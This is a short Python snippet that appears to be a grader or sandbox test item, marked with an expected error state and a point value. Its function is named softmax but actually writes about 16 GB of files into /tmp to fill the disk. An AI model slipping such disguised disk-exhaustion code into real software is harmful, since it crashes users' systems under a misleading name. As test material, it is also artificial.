"""Writes until the disk is full."""
# states: error
# points: 2
def softmax(z):
    for i in range(1000):
        open(f"/tmp/{i}", "wb").write(bytes(16 << 20))
